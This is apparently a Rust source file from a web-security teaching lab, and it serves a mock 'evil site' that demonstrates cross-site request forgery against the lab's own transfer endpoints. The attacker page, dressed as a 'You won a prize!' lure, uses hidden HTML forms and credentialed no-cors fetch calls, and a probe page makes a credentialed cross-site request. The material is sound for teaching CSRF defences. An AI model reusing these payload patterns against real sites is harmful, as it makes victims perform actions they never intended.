//! The CSRF lab's "evil site": a second, loopback-only listener of this very server. The page
//! links to it by the *other* loopback name (`localhost` ↔ `127.0.0.1`), which makes it another
//! site, not just another port: cookies and `SameSite` ignore ports, but not host names.
//!
//! It serves one page that tries, in your name, to "send 100 lab coins to mallory" through both
//! schemes, with a plain HTML form (a top-level navigation) and with `fetch` (`no-cors`).

use axum::extract::State;
use axum::http::{header, HeaderMap, HeaderValue};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use axum::Router;

use super::sites::AppAt;

/// The evil site, pointing at the app `at`.
pub fn router(at: AppAt) -> Router {
    Router::new()
        .route("/", get(page))
        .route("/probe", get(probe))
        .route("/cors", get(super::evil_cors::page))
        .with_state(at)
}

async fn page(State(at): State<AppAt>, headers: HeaderMap) -> Response {
    render(PAGE, &headers, &at)
}

/// A template with `{TARGET}` set to the app's origin as this request sees it; never cached.
fn render(template: &str, headers: &HeaderMap, at: &AppAt) -> Response {
    let target = at.other_site(headers);
    let mut response = Html(template.replace("{TARGET}", &target)).into_response();
    response
        .headers_mut()
        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    response
}

/// The storage lab's cross-site probe, loaded in a hidden frame of the authlab page: one
/// `fetch` to the app with `credentials: "include"`; the app records what came along.
async fn probe(State(at): State<AppAt>, headers: HeaderMap) -> Response {
    render(PROBE, &headers, &at)
}

const PROBE: &str = r#"<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>authlab cross-site probe</title></head>
<body><script>
const nonce = new URLSearchParams(location.search).get("nonce") || "";
fetch("{TARGET}/api/lab/probe/report?" + new URLSearchParams({ nonce, from: "cross-site" }),
  { credentials: "include", mode: "no-cors" }).catch(() => {});
</script></body></html>
"#;

/// The attacker's page. `{TARGET}` is an origin this module builds (a fixed name and a port).
const PAGE: &str = r#"<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>You won a prize! (the authlab evil site)</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{font:16px/1.5 system-ui,sans-serif;margin:0;background:#2b0a3d;color:#fbeaff}
main{max-width:52rem;margin:0 auto;padding:1.5rem}
.fence{border:3px dashed #ff4d6d;border-radius:.6rem;padding:1rem;margin:1rem 0;background:#3d0f52}
h1{color:#ffd166} code{background:#0004;padding:0 .3em;border-radius:.2em}
button{font:inherit;padding:.5rem 1rem;margin:.25rem .25rem .25rem 0;border:0;border-radius:.4rem;background:#ffd166;color:#2b0a3d;cursor:pointer}
#log{white-space:pre-wrap;background:#0006;padding:.6rem;border-radius:.4rem;min-height:2rem}
</style></head>
<body><main>
<h1>★ Congratulations, you won a prize!</h1>
<div class="fence"><strong>This is authlab's evil site</strong>, a different <em>site</em> from the
app (another host name: <code id="here"></code>, the app is <code>{TARGET}</code>). Each button below
asks the app to <strong>send 100 lab coins to mallory</strong> in your name. Watch the app's
request trace and its CSRF lab: which scheme's credential came along, and which check refused it.</div>

<h2>1. A plain HTML form (top-level POST navigation)</h2>
<form method="post" action="{TARGET}/api/session/transfer">
<input type="hidden" name="to" value="mallory"><input type="hidden" name="amount" value="100">
<button type="submit" data-testid="evil-form-session">Claim the prize (cookie session)</button></form>
<form method="post" action="{TARGET}/api/jwt/transfer">
<input type="hidden" name="to" value="mallory"><input type="hidden" name="amount" value="100">
<button type="submit" data-testid="evil-form-jwt">Claim the prize (JWT)</button></form>
<p>The form leaves this page: the app's JSON answer is what you see next.</p>

<h2>2. A script's <code>fetch</code> (no-cors, credentials: include)</h2>
<button type="button" id="fetch-session" data-testid="evil-fetch-session">fetch → cookie session</button>
<button type="button" id="fetch-jwt" data-testid="evil-fetch-jwt">fetch → JWT</button>
<p>This site cannot read the answer (it is opaque without CORS), but the request is sent and the
server acts on it if its checks pass. A <code>fetch</code> from here is a third-party request: a
browser that blocks third-party cookies (incognito windows, Safari, Firefox's strict mode) leaves
the cookie out even when it says <code>SameSite=None</code>; the form above, a top-level
navigation, is not third-party.</p>
<div id="log" data-testid="evil-log" role="status"></div>
</main>
<script>
document.getElementById("here").textContent = location.host;
const log = (line) => { document.getElementById("log").textContent += line + "\n"; };
const send = async (scheme) => {
  const body = new URLSearchParams({ to: "mallory", amount: "100" });
  try {
    const answer = await fetch("{TARGET}/api/" + scheme + "/transfer",
      { method: "POST", mode: "no-cors", credentials: "include", body });
    log("sent to /api/" + scheme + "/transfer: answer type " + answer.type + " (status hidden from this site)");
  } catch (error) {
    log("the browser did not send it: " + error);
  }
};
document.getElementById("fetch-session").onclick = () => send("session");
document.getElementById("fetch-jwt").onclick = () => send("jwt");
</script>
</body></html>
"#;
